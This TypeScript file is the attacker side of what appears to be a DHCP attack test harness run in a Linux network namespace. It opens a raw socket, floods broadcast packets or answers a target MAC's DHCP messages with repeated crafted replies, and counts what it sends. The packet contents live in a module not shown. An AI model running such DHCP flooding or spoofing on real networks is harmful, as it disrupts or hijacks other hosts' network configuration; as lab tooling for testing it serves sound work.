/**
 * The attacker's process, which runs in the attacker's network namespace.
 *
 * Arguments: the name of the attack, how many seconds it lasts, and the hardware address of the
 * victim. Prints the number of packets sent.
 *
 * @module
 */

import {
  decodeMessage,
  type DhcpMessage,
  SERVER_PORT,
} from "../../lib/dhcp/codec/dhcp_message.ts";
import { isErrno } from "../../lib/linux/errno.ts";
import { openLinkControl } from "../../lib/linux/link_control.ts";
import { openNetns } from "../../lib/linux/netns.ts";
import {
  openPacketSocket,
  type PacketSocket,
} from "../../lib/linux/packet_socket.ts";
import { decodeIpv4Udp } from "../../lib/net/ipv4_udp.ts";
import { formatMacAddress } from "../../lib/net/mac_address.ts";
import { BPF, ETHER_TYPE } from "../../lib/net/packet_filter.ts";
import { print } from "../terminal.ts";
import { type Attack, attackOf } from "./attacks.ts";

const BROADCAST = new Uint8Array(6).fill(0xff);
const EVERYTHING = [{ code: BPF.ret, jt: 0, jf: 0, k: 0xffff }];
/** How long to wait for the victim's next message. */
const PAUSE_MS = 1;

/** Sends to all hosts. @returns Whether the link took it. */
function send(socket: PacketSocket, packet: Uint8Array): boolean {
  try {
    socket.send(packet, BROADCAST);
    return true;
  } catch (error) {
    // The link is congested.
    if (isErrno(error, "ENOBUFS", "EAGAIN")) return false;
    throw error;
  }
}

/** Sends all packets. @returns How many were sent. */
function sendAll(
  socket: PacketSocket,
  packets: readonly Uint8Array[],
): number {
  return packets.filter((packet) => send(socket, packet)).length;
}

/** The DHCP messages of the victim that have arrived. */
function* heard(socket: PacketSocket, victim: string): Generator<DhcpMessage> {
  for (const { packet, checksum } of socket.receiveSome()) {
    const result = decodeIpv4Udp(packet, checksum);
    if (result.kind !== "decoded") continue;
    const { destinationPort, payload } = result.datagram;
    if (destinationPort !== SERVER_PORT) continue;
    const message = decodeMessage(payload);
    if (formatMacAddress(message.chaddr) === victim) yield message;
  }
}

async function attack(
  socket: PacketSocket,
  how: Attack,
  { seconds, victim }: { readonly seconds: number; readonly victim: string },
): Promise<number> {
  const endMs = performance.now() + seconds * 1000;
  const flood = how.kind === "flood" ? how.packets() : [];
  let sent = 0;
  while (performance.now() < endMs) {
    if (how.kind === "reply") {
      for (const message of heard(socket, victim)) {
        const packets = how.packets(message);
        for (let time = 0; time < how.times; time++) {
          sent += sendAll(socket, packets);
        }
      }
      await new Promise((resolve) => setTimeout(resolve, PAUSE_MS));
    } else {
      sent += sendAll(socket, flood);
    }
  }
  return sent;
}

if (import.meta.main) {
  const [name = "", seconds = "", victim = ""] = Deno.args;
  using netns = openNetns("/proc/self/ns/net");
  using control = openLinkControl(netns);
  const ifIndex = control.find("eth0")?.index ?? 0;
  const socket = openPacketSocket(netns, {
    ifIndex,
    etherType: ETHER_TYPE.ipv4,
    filter: EVERYTHING,
  });
  print("ready");
  const options = { seconds: Number(seconds), victim };
  print(`sent ${await attack(socket, attackOf(name), options)}`);
  Deno.exit(0);
}
